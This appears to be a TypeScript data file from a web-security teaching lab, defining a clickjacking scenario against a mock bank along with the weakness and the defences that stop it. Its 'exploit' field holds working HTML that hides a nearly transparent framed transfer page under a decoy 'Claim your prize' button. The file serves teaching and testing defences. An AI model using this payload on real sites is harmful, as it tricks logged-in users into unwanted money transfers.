import { type AttackOf, sameSiteNone } from './attack.ts';

/** Lab 8: the bank in a frame, under something else. */
export const framing = [
  {
    id: 'clickjacking',
    lab: 'framing',
    title: 'A click on a framed transfer',
    story:
      'Another site frames the bank’s transfer page, nearly invisible, so that its “Send” lies over a button of the attacker. Alice means to click that button.',
    goal: 'Alice’s balance goes down.',
    ground: 'other-frame',
    aim: 'money',
    victim: 'logged-in',
    ifUnseen: 'stopped',
    clicksOn: '/transfer/confirm',
    afterDelivery: 'Click “Claim your prize”.',
    weakness: sameSiteNone,
    exploit: `<style>
  body { margin: 0; overflow: hidden; }
  button { position: absolute; left: 32px; top: 44px; width: 130px; height: 80px; }
  iframe {
    position: absolute; left: 0; top: -240px; width: 240px; height: 240px; border: 0;
    opacity: 0.15; transform: scale(2); transform-origin: 0 0;
  }
</style>
<button>Claim your prize</button>
<iframe src="{{bank}}/transfer/confirm?to=mallory&amp;amount=100" title="A prize"></iframe>`,
    sign: { at: 'bank', method: 'POST', path: '/transfer' },
    defences: [
      'same-site-lax',
      'same-site-strict',
      'frame-ancestors',
      'synchronizer-token',
      'origin-check',
      'fetch-metadata',
    ],
    probe: 'other/iframe',
  },
] as const satisfies readonly AttackOf<string>[];
